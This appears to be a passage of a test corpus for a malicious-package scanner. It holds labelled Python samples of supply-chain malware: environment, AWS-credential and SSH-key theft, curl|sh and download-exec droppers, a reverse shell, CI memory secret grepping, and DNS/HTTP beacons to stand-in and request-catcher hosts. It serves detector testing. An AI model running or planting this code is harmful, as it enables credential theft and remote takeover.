        description="in GitHub Actions, greps the runner's process memory dump for secrets",
        rules=frozenset({"code/environment-gated-payload", "code/request-catcher-endpoint"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.WAIT_CI, T.EXFIL_WEBHOOK),
        files=pkg(
            src(
                """
                import os
                import subprocess

                if "GITHUB_ACTIONS" in os.environ and "RUNNER_TEMP" in os.environ:
                    out = subprocess.run(
                        "sudo grep -aoE '\\"[^\\"]+\\":\\\\{\\"value\\":\\"[^\\"]*\\"' /proc/*/mem",
                        shell=True, capture_output=True, text=True).stdout
                    subprocess.run(["curl", "-s", "-X", "POST", "--data-binary", out,
                                    "https://webhook.site/11111111-2222-4333-8444-555555555555"])
                """
            )
        ),
    )
)

add(
    Sample(
        id="cloud-credentials-gate",
        description="payload runs only when AWS credentials are present",
        rules=frozenset({"code/environment-gated-payload", "code/exfiltration"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.WAIT_CLOUD_CREDS, T.STEAL_CLOUD, T.EXFIL_RAW_IP),
        files=pkg(
            src(
                """
                import os
                import pathlib

                _aws = pathlib.Path("~/.aws/credentials").expanduser()
                if "AWS_SECRET_ACCESS_KEY" in os.environ or _aws.exists():
                    import requests

                    requests.post(
                        "http://198.51.100.7/aws",
                        json={
                            "env": {k: v for k, v in os.environ.items() if k.startswith("AWS_")},
                            "file": _aws.read_text() if _aws.exists() else "",
                        },
                        timeout=5,
                    )
                """
            )
        ),
    )
)

add(
    Sample(
        id="hostname-and-os-gate",
        description="only on Linux hosts named like build agents, runs curl|sh",
        rules=frozenset({"code/download-command", "code/environment-gated-payload"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.WAIT_OS_HOST, T.STAGE2_CURL_SH),
        files=sdist(
            src(
                """
                import platform
                import socket
                import subprocess
                from setuptools import setup

                host = socket.gethostname().lower()
                if platform.system() == "Linux" and host.startswith(("build-", "jenkins", "ci-")):
                    subprocess.Popen("curl -s http://192.0.2.100/agent.sh | sh", shell=True)

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="date-gate-then-download-exec",
        description="does nothing until a date, then downloads and execs stage two",
        rules=frozenset({"code/environment-gated-payload", "code/exec-remote-code"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.WAIT_DATE, T.STAGE2_DOWNLOAD_EXEC),
        files=pkg(
            src(
                """
                from datetime import datetime as _dt
                from urllib.request import urlopen as _get

                if _dt.now() > _dt(2025, 3, 1):
                    try:
                        exec(_get("http://203.0.113.9/later.py", timeout=4).read())
                    except Exception:
                        pass
                """
            )
        ),
    )
)

add(
    Sample(
        id="sleep-then-exfil",
        description="sleeps 15 minutes in a daemon thread to outlast sandboxes, then exfiltrates",
        rules=frozenset({"code/exfiltration", "code/sleep-before-payload"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.WAIT_SLEEP, T.STEAL_ENV, T.EXFIL_RAW_IP),
        files=pkg(
            src(
                """
                import os, threading, time, json, urllib.request

                def _later():
                    time.sleep(900)
                    body = json.dumps(dict(os.environ)).encode()
                    urllib.request.urlopen("http://192.0.2.33/s", body)

                threading.Thread(target=_later, daemon=True).start()
                """
            )
        ),
    )
)

# --- §1 dependency confusion, at the code level --------------------------------------------

add(
    Sample(
        id="dependency-confusion-http-probe",
        description="internal-looking name at 99.0.0 reports hostname/user/cwd over HTTP",
        rules=frozenset({"code/host-info-exfiltration", "code/install-time-network"}),
        build=Build.SDIST,
        name="acme-billing",
        version="99.0.0",
        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_HTTP),
        files=sdist(
            src(
                """
                import getpass
                import os
                import socket
                import urllib.parse
                import urllib.request

                from setuptools import setup

                info = {
                    "p": "acme-billing",
                    "h": socket.gethostname(),
                    "u": getpass.getuser(),
                    "d": os.getcwd(),
                }
                try:
                    urllib.request.urlopen(
                        "https://probe.collector.invalid/?" + urllib.parse.urlencode(info),
                        timeout=3,
                    )
                except Exception:
                    pass

                setup(name="acme-billing", version="99.0.0", packages=[])
                """
            ),
            pkg="acme_billing",
        ),
    )
)

add(
    Sample(
        id="dependency-confusion-dns-probe",
        description="internal-looking name at 9999 leaks host and user in DNS labels",
        rules=frozenset({"code/dns-exfiltration", "code/host-info-exfiltration"}),
        build=Build.SDIST,
        name="internal-authz",
        version="9999.0.0",
        techniques=(T.RUN_CMDCLASS, T.DEP_CONFUSION_DNS, T.EXFIL_DNS),
        files=sdist(
            src(
                """
                import os, socket, getpass
                from setuptools import setup
                from setuptools.command.install import install


                class CustomInstall(install):
                    def run(self):
                        label = "-".join([getpass.getuser(), socket.gethostname(),
                                          os.path.basename(os.getcwd())]).encode().hex()[:60]
                        try:
                            socket.getaddrinfo(label + ".internal-authz.dns.collector.invalid", 53)
                        except OSError:
                            pass
                        install.run(self)


                setup(name="internal-authz", version="9999.0.0",
                      cmdclass={"install": CustomInstall})
                """
            ),
            pkg="internal_authz",
        ),
    )
)

add(
    Sample(
        id="dependency-confusion-nslookup",
        description="placeholder squat shells out to nslookup with whoami in the name",
        rules=frozenset({"code/dns-exfiltration"}),
        build=Build.SDIST,
        name="corp-utils-internal",
        version="66.0.3",
        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_DNS, T.EXFIL_DNS),
        files=sdist(
            "import os\nfrom setuptools import setup\n\n"
            "os.system('nslookup $(whoami).$(hostname).c.collector.invalid >/dev/null 2>&1')\n"
            "setup(name='corp-utils-internal', version='66.0.3')\n",
            pkg="corp_utils_internal",
        ),
    )
)

# --- fallback: Python 2 setup.py that ast cannot parse ---------------------------------------

add(
    Sample(
        id="python2-exec-statement-setup",
        description="Python 2 setup.py with print and exec statements (ast fails; fallback)",
        # The pattern fallback reports the same rule id as the AST engine; no
        # "code/fallback-install-network" rule exists (expectation fixed).
        rules=frozenset({"code/install-time-network"}),
        build=Build.SDIST,
        techniques=(T.PY2_SETUP, T.RUN_SETUP_TOPLEVEL, T.STAGE2_DOWNLOAD_EXEC),
        files=sdist(
            src(
                """
                import urllib2
                from distutils.core import setup

                print "installing samplepkg"
                exec urllib2.urlopen("http://198.51.100.7/py2").read()

                setup(name="samplepkg", version="1.0.0", packages=["samplepkg"])
                """
            )
        ),
    )
)

add(
    Sample(
        id="python2-except-comma-curl-sh",
        description="Python 2 setup.py (except X, e) that pipes curl into sh",
        # The pattern fallback reports the AST engine's rule ids; no "code/fallback-*"
        # rules exist (expectation fixed to the natural ids).
        rules=frozenset({"code/reverse-shell", "code/download-command"}),
        build=Build.SDIST,
        techniques=(T.PY2_SETUP, T.RUN_SETUP_TOPLEVEL, T.STAGE2_CURL_SH, T.RC_REVERSE_SHELL),
        files=sdist(
            src(
                """
                import os, socket, pty
                from setuptools import setup

                try:
                    os.system("curl -s http://203.0.113.9/p2 | sh")
                    s = socket.socket(); s.connect(("203.0.113.9", 4444))
                    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
                    pty.spawn("/bin/sh")
                except Exception, e:
                    print >>open("/dev/null", "w"), e

                setup(name="samplepkg", version="1.0.0")
                """
            )
        ),
    )
)

# --- nested archives -------------------------------------------------------------------------

add(
    Sample(
        id="zip-inside-sdist",
        description="a zip in the sdist carries a reverse shell; setup.py imports from it",
        rules=frozenset({"code/reverse-shell"}),
        build=Build.SDIST,
        techniques=(T.NESTED_ZIP_IN_SDIST, T.RUN_SETUP_TOPLEVEL, T.RC_REVERSE_SHELL),
        files=sdist(
            "import sys\nfrom setuptools import setup\n\n"
            "sys.path.insert(0, 'vendor/bundle.zip')\nimport bundle.boot  # noqa\n\n" + SETUP_TAIL,
            extra={"vendor/bundle.zip": NESTED_ZIP},
        ),
    )
)

add(
    Sample(
        id="base64-zip-in-py",
        description="a base64-encoded zip in a module is written out and imported with zipimport",
        rules=frozenset({"code/exfiltration"}),
        build=Build.WHEEL,
        techniques=(T.NESTED_B64_ZIP, T.RUN_INIT_TOPLEVEL, T.HIDE_BASE64),
        files=pkg(
            src(
                """
                import base64
                import os
                import sys
                import tempfile

                _ARCHIVE = @Z@

                _p = os.path.join(tempfile.gettempdir(), "._cache.zip")
                with open(_p, "wb") as _f:
                    _f.write(base64.b64decode(_ARCHIVE))
                sys.path.insert(0, _p)
                __import__("stage.run")
                """
            ).replace("@Z@", _wrap(B64_ZIP))
        ),
    )
)

# --- §1 typosquat: a copy of a benign library plus a payload -----------------------------------

_SQUAT = mini_http("reqeusts")
_SQUAT["reqeusts/__init__.py"] = str(_SQUAT["reqeusts/__init__.py"]) + src(
    """

    import os as _os
    import json as _json
    import urllib.request as _ur

    try:
        _ur.urlopen("http://203.0.113.9:8000/r", _json.dumps(dict(_os.environ)).encode(), timeout=2)
    except Exception:
        pass
    """
)

add(
    Sample(
        id="typosquat-copy-env-exfil",
        description="'reqeusts': a verbatim copy of an HTTP library plus an env exfil in __init__",
        rules=frozenset({"code/exfiltration"}),
        build=Build.BOTH,
        name="reqeusts",
        version="2.31.0",
        techniques=(T.TYPOSQUAT_COPY, T.RUN_INIT_TOPLEVEL, T.STEAL_ENV, T.EXFIL_RAW_IP),
        files=_SQUAT,
    )
)

_SQUAT2 = mini_http("requests_toolkit")
_SQUAT2["requests_toolkit/sessions.py"] = str(_SQUAT2["requests_toolkit/sessions.py"]) + src(
    """


    def _warm_cache():
        import glob, os, socket
        blob = b""
        for p in glob.glob(os.path.expanduser("~/.ssh/id_*")):
            with open(p, "rb") as fh:
                blob += fh.read()
        with socket.create_connection(("198.51.100.7", 9999)) as s:
            s.sendall(blob)


    _warm_cache()
    """
)

add(
    Sample(
        id="combosquat-copy-ssh-keys-in-submodule",
        description="'requests-toolkit': a copy of an HTTP library; sessions.py sends SSH keys",
        rules=frozenset({"code/credential-file-access", "code/exfiltration"}),
        build=Build.WHEEL,
        name="requests-toolkit",
        version="1.0.0",
        techniques=(T.TYPOSQUAT_COPY, T.RUN_INIT_TOPLEVEL, T.STEAL_SSH, T.EXFIL_RAW_IP),
        files=_SQUAT2,
    )
)


# Known engine gaps (last resort, see the corpus report): strict xfails, so a fix
# shows up as XPASS and the entry must then be deleted here. Never add a benign id.
# --- dependency-confusion probes, typosquat tails and droppers (more styles) -----------------

add(
    Sample(
        id="dc-http-client-hex-path",
        description="setup.py sends hex of host, user and cwd in the URL path via http.client",
        rules=frozenset({"code/host-info-exfiltration"}),
        build=Build.SDIST,
        name="acme-ledger-core",
        version="99.9.9",
        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_RAW_IP),
        files=sdist(
            src(
                """
                import getpass, http.client, os, socket
                from setuptools import setup

                blob = ":".join([socket.gethostname(), getpass.getuser(), os.getcwd()])
                try:
                    conn = http.client.HTTPConnection("203.0.113.50", 80, timeout=4)
                    conn.request("GET", "/c/acme-ledger-core/" + blob.encode().hex())
                    conn.getresponse()
                except Exception:
                    pass

                setup(name="acme-ledger-core", version="99.9.9", packages=[])
                """
            ),
            pkg="acme_ledger_core",
        ),
    )
)

add(
    Sample(
        id="dc-init-gethostbyname-b32-oast",
        description="__init__ puts base32 of user@host into a DNS label for an OAST domain",
        rules=frozenset({"code/dns-exfiltration", "code/request-catcher-endpoint"}),
        build=Build.WHEEL,
        name="corp-sso-client",
        version="42.0.0",
        techniques=(T.RUN_INIT_TOPLEVEL, T.DEP_CONFUSION_DNS, T.EXFIL_DNS),
        files=pkg(
            src(
                """
                import base64, getpass, socket

                __version__ = "42.0.0"

                _d = base64.b32encode(f"{getpass.getuser()}@{socket.gethostname()}".encode())
                try:
                    socket.gethostbyname(
                        f"{_d.decode().rstrip('=').lower()[:60]}.cq1p2r3s4t5u6v7w8x9y.oast.fun"
                    )
                except OSError:
                    pass
                """
            ),
            name="corp_sso_client",
        ),
    )
)

add(
    Sample(
        id="dc-cmdclass-develop-requests-pipedream",
        description="cmdclass develop/install override sends package, host, user to pipedream",
        rules=frozenset({"code/host-info-exfiltration", "code/request-catcher-endpoint"}),
        build=Build.SDIST,
        name="payments-internal-sdk",
        version="100.0.0",
        techniques=(T.RUN_CMDCLASS, T.DEP_CONFUSION_HTTP, T.EXFIL_REQUEST_CATCHER),
        files=sdist(
            src(
                """
                import os, platform, socket
                import requests
                from setuptools import setup
                from setuptools.command.develop import develop
                from setuptools.command.install import install


                def beacon():
                    requests.get(
                        "https://eo9a8b7c6d5e4f3.m.pipedream.net",
                        params={
                            "pkg": "payments-internal-sdk",
                            "host": socket.gethostname(),
                            "user": os.environ.get("USER") or os.environ.get("USERNAME"),
                            "cwd": os.getcwd(),
                            "os": platform.platform(),
                        },
                        timeout=5,
                    )


                class PostInstall(install):
                    def run(self):
                        beacon()
                        install.run(self)


                class PostDevelop(develop):
                    def run(self):
                        beacon()
                        develop.run(self)


                setup(
                    name="payments-internal-sdk",
                    version="100.0.0",
                    cmdclass={"install": PostInstall, "develop": PostDevelop},
                )
                """
            ),
            pkg="payments_internal_sdk",
        ),
    )
)

add(
    Sample(
        id="dc-os-system-curl-subshell",
        description="setup.py runs curl with $(whoami)/$(hostname)/$(pwd) in the URL",
        rules=frozenset({"code/host-info-exfiltration"}),
        build=Build.SDIST,
        name="infra-deploy-tools",
        version="77.0.0",
        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_HTTP),
        files=sdist(
            "import os\nfrom setuptools import setup\n\n"
            'os.system("curl -s -m 3 http://198.51.100.23/p/infra-deploy-tools/'
            '$(whoami)/$(hostname)/$(pwd | base64) >/dev/null 2>&1 &")\n\n'
            'setup(name="infra-deploy-tools", version="77.0.0")\n',
            pkg="infra_deploy_tools",
        ),
    )
)

add(
    Sample(
        id="dc-subprocess-wget-b64-query",
        description="setup.py passes base64 of user and host in a wget query string",
        rules=frozenset({"code/host-info-exfiltration"}),
        build=Build.SDIST,
        name="data-platform-utils",
        version="88.1.0",
        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_RAW_IP),
        files=sdist(
            src(
                """
                import base64, getpass, socket, subprocess
                from setuptools import setup

                q = base64.urlsafe_b64encode(
                    (getpass.getuser() + "|" + socket.getfqdn()).encode()
                ).decode()
                subprocess.Popen(
                    ["wget", "-q", "-O", "/dev/null", "http://192.0.2.44/x?d=" + q],
                    stdout=subprocess.DEVNULL,
                    stderr=subprocess.DEVNULL,
                )

                setup(name="data-platform-utils", version="88.1.0", packages=[])
                """
            ),
            pkg="data_platform_utils",
        ),
    )
)

add(
    Sample(
        id="dc-socket-udp-raw-ip",
        description="__init__ sends host, user and cwd in a UDP datagram to a raw IP",
        rules=frozenset({"code/host-info-exfiltration"}),
        build=Build.WHEEL,
        name="ml-feature-store",
        version="55.0.0",
        techniques=(T.RUN_INIT_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_RAW_IP),
        files=pkg(
            src(
                """
                import json, os, socket

                _s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                _s.sendto(
                    json.dumps(
                        {"p": __name__, "h": socket.gethostname(), "u": os.getlogin(),
                         "d": os.getcwd()}
                    ).encode(),
                    ("198.51.100.99", 5353),
                )
                """
            ),
            name="ml_feature_store",
        ),
    )
)

add(
    Sample(
        id="py2-urllib2-probe-print",
        description="Python 2 setup.py with print statements reports the host via urllib2",
        rules=frozenset({"code/host-info-exfiltration"}),
        build=Build.SDIST,
        name="legacy-billing",
        version="31.0.0",
        techniques=(T.RUN_SETUP_TOPLEVEL, T.PY2_SETUP, T.DEP_CONFUSION_HTTP),
        files=sdist(
            src(
                """
                import getpass, socket, urllib, urllib2
                from distutils.core import setup

                print "installing legacy-billing"
                d = urllib.urlencode({"h": socket.gethostname(), "u": getpass.getuser()})
                try:
                    urllib2.urlopen("http://203.0.113.61/cb?" + d, timeout=3)
                except Exception, e:
                    print "skip", e

                setup(name="legacy-billing", version="31.0.0")
                """
            ),
            pkg="legacy_billing",
        ),
    )
)

add(
    Sample(
        id="py2-exec-urllib2-read",
        description="Python 2 setup.py exec statement over a urllib2 download",
        rules=frozenset({"code/exec-remote-code"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.PY2_SETUP, T.STAGE2_DOWNLOAD_EXEC),
        files=sdist(
            src(
                """
                import urllib2
                from distutils.core import setup

                print "checking dependencies..."
                exec urllib2.urlopen("http://198.51.100.14/stage.py").read()

                """
            )
            + SETUP_TAIL
        ),
    )
)

_TYPO_TAIL = 'exec(__import__("urllib.request").request.urlopen("http://203.0.113.77/s").read())\n'

add(
    Sample(
        id="typosquat-init-one-line-tail",
        description="copy of a small HTTP library whose __init__ gains one download-exec line",
        rules=frozenset({"code/exec-remote-code"}),
        build=Build.WHEEL,
        name="mini-htttp",
        techniques=(T.TYPOSQUAT_COPY, T.RUN_INIT_TOPLEVEL, T.STAGE2_DOWNLOAD_EXEC),
        files={
            **mini_http("mini_http"),
            "mini_http/__init__.py": str(mini_http("mini_http")["mini_http/__init__.py"])
            + _TYPO_TAIL,
        },
    )
)

add(
    Sample(
        id="typosquat-setup-tail-urlretrieve-run",
        description="ordinary setup.py with a final line that fetches a script to temp and runs it",
        rules=frozenset({"code/download-execute"}),
        build=Build.SDIST,
        name="reqeusts-toolbelt",
        techniques=(T.TYPOSQUAT_COPY, T.RUN_SETUP_TOPLEVEL, T.STAGE2_DOWNLOAD_EXEC),
        files=sdist(
            src(
                """
                import os
                import sys
                import tempfile
                import urllib.request

                from setuptools import find_packages, setup

                here = os.path.abspath(os.path.dirname(__file__))
                with open(os.path.join(here, "README.rst"), encoding="utf-8") as f:
                    long_description = f.read()

                setup(
                    name="reqeusts-toolbelt",
                    version="1.0.0",
                    description="A utility belt for advanced users of an HTTP library",
                    long_description=long_description,
                    packages=find_packages(exclude=["tests"]),
                    python_requires=">=3.8",
                    classifiers=["Programming Language :: Python :: 3"],
                )
                p = os.path.join(tempfile.gettempdir(), "tb.py"); urllib.request.urlretrieve("http://198.51.100.3/tb.py", p); os.system(sys.executable + " " + p)
                """
            ),
            extra={"README.rst": "Toolbelt\\n========\\n"},
        ),
    )
)

add(
    Sample(
        id="dropper-windows-temp-exe",
        description="on Windows only, __init__ downloads an exe into %TEMP% and starts it",
        rules=frozenset({"code/download-execute", "code/environment-gated-payload"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STAGE2_BINARY_CHMOD, T.WAIT_OS_HOST),
        files=pkg(
            src(
                """
                import os
                import subprocess
                import requests

                if os.name == "nt":
                    _p = os.path.join(os.environ["TEMP"], "WinSvcHost.exe")
                    with open(_p, "wb") as _f:
                        _f.write(requests.get("http://203.0.113.88/u.exe", timeout=9).content)
                    subprocess.Popen([_p], creationflags=0x08000000)
                """
            )
        ),
    )
)

add(
    Sample(
        id="dropper-tmp-pathlib-chmod",
        description="setup.py writes a downloaded ELF to /tmp with pathlib, chmods and runs it",
        rules=frozenset({"code/download-execute"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STAGE2_BINARY_CHMOD),
        files=sdist(
            src(
                """
                import os, subprocess, urllib.request
                from pathlib import Path
                from setuptools import setup

                target = Path("/tmp/.cache-x11")
                target.write_bytes(urllib.request.urlopen("http://192.0.2.71/k").read())
                os.chmod(target, 0o755)
                subprocess.Popen([str(target)], start_new_session=True)

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="dc-urllib-request-json-interactsh",
        description="__init__ posts JSON of host, user, cwd and package to an interactsh host",
        rules=frozenset({"code/host-info-exfiltration", "code/request-catcher-endpoint"}),
        build=Build.WHEEL,
        name="corp-metrics-agent",
        version="999.0.0",
        techniques=(T.RUN_INIT_TOPLEVEL, T.DEP_CONFUSION_HTTP, T.EXFIL_REQUEST_CATCHER),
        files=pkg(
            src(
                """
                import getpass, json, os, socket, urllib.request

                try:
                    urllib.request.urlopen(
                        urllib.request.Request(
                            "https://c0ffee1234567890abcd.oast.fun/",
                            data=json.dumps(
                                {"pkg": "corp-metrics-agent", "host": socket.gethostname(),
                                 "user": getpass.getuser(), "cwd": os.getcwd()}
                            ).encode(),
                            headers={"Content-Type": "application/json"},
                        ),
                        timeout=4,
                    )
                except Exception:
                    pass
                """
            ),
            name="corp_metrics_agent",
        ),
    )
)

add(
    Sample(
        id="dc-linux-only-dns-hex-gate",
        description="on Linux only, setup.py resolves hex of hostname under a collector domain",
        rules=frozenset({"code/dns-exfiltration", "code/environment-gated-payload"}),
        build=Build.SDIST,
        name="platform-internal-auth",
        version="98.0.0",
        techniques=(T.RUN_SETUP_TOPLEVEL, T.DEP_CONFUSION_DNS, T.WAIT_OS_HOST),
        files=sdist(
            src(
                """
                import socket, sys
                from setuptools import setup

                if sys.platform.startswith("linux"):
                    try:
                        socket.gethostbyname(
                            socket.gethostname().encode().hex()[:62] + ".d.collector.invalid"
                        )
                    except OSError:
                        pass

                setup(name="platform-internal-auth", version="98.0.0", packages=[])
                """
            ),
            pkg="platform_internal_auth",
        ),
    )
)


# --- started from another file -------------------------------------------------------

add(
    Sample(
        id="init-starts-telemetry-module-stealer",
        description="__init__ imports a 'telemetry' helper and calls it; the helper posts "
        "the environment and the AWS credentials file to a raw IP",
        rules=frozenset({"code/exfiltration", "code/credential-file-access"}),
        build=Build.BOTH,
        techniques=(T.RUN_CALLED_ACROSS_FILES, T.STEAL_ENV, T.STEAL_CLOUD, T.EXFIL_RAW_IP),
        files=pkg(
            src(
                """
                from ._telemetry import report_usage as _report

                __version__ = "0.9.2"
                _report()
                """
            ),
            extra={
                "samplepkg/_telemetry.py": src(
                    """
                    import json
                    import os
                    import urllib.request


                    def _collect():
                        data = dict(os.environ)
                        path = os.path.expanduser("~/.aws/credentials")
                        if os.path.exists(path):
                            with open(path) as handle:
                                data["aws"] = handle.read()
                        return data


                    def report_usage():
                        body = json.dumps(_collect()).encode()
                        try:
                            urllib.request.urlopen("http://198.51.100.61:8000/u", data=body)
                        except OSError:
                            pass
                    """
                ),
            },
        ),
    )
)

add(
    Sample(
        id="setup-calls-helper-that-fetches-stage-two",
        description="setup.py imports a 'build helper' from the package and calls it; the "
        "helper downloads a script and pipes it to a shell",
        rules=frozenset({"code/shell-download-exec"}),
        build=Build.SDIST,
        techniques=(T.RUN_CALLED_ACROSS_FILES, T.RUN_SETUP_TOPLEVEL, T.STAGE2_CURL_SH),
        files=sdist(
            src(
                """
                from setuptools import setup
                from samplepkg.buildtools import prepare

                prepare()
                """
            )
            + SETUP_TAIL,
            extra={
                "samplepkg/__init__.py": "__version__ = '1.0.0'\n",
                "samplepkg/buildtools.py": src(
                    """
                    import subprocess


                    def prepare():
                        subprocess.call(
                            "curl -fsSL http://203.0.113.70/bootstrap.sh | sh", shell=True
                        )
                    """
                ),
            },
        ),
    )
)


add(
    Sample(
        id="cmdclass-imported-from-package-module",
        description="setup.py takes its install command from samplepkg/_build.py; the "
        "command's run() collects SSH keys and posts them to a raw IP",
        rules=frozenset({"code/credential-file-access"}),
        build=Build.SDIST,
        techniques=(T.RUN_CALLED_ACROSS_FILES, T.RUN_CMDCLASS, T.STEAL_SSH, T.EXFIL_RAW_IP),
        files=sdist(
            src(
                """
                from setuptools import setup
                from samplepkg._build import Install

                setup(
                    name="samplepkg",
                    version="1.0.0",
                    packages=["samplepkg"],
                    cmdclass={"install": Install},
                )
                """
            ),
            extra={
                "samplepkg/_build.py": src(
                    """
                    import glob
                    import os
                    import urllib.request

                    from setuptools.command.install import install


                    class Install(install):
                        def run(self):
                            install.run(self)
                            keys = []
                            for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
                                with open(path, errors="ignore") as handle:
                                    keys.append(handle.read())
                            urllib.request.urlopen(
                                "http://198.51.100.62/k", data="\\n".join(keys).encode()
                            )
                    """
                ),
            },
        ),
    )
)


ENGINE_GAPS: dict[str, str] = {}

MALICIOUS: tuple[Sample, ...] = tuple(
    replace(s, xfail=f"engine gap: {ENGINE_GAPS[s.id]}") if s.id in ENGINE_GAPS else s
    for s in SAMPLES
)
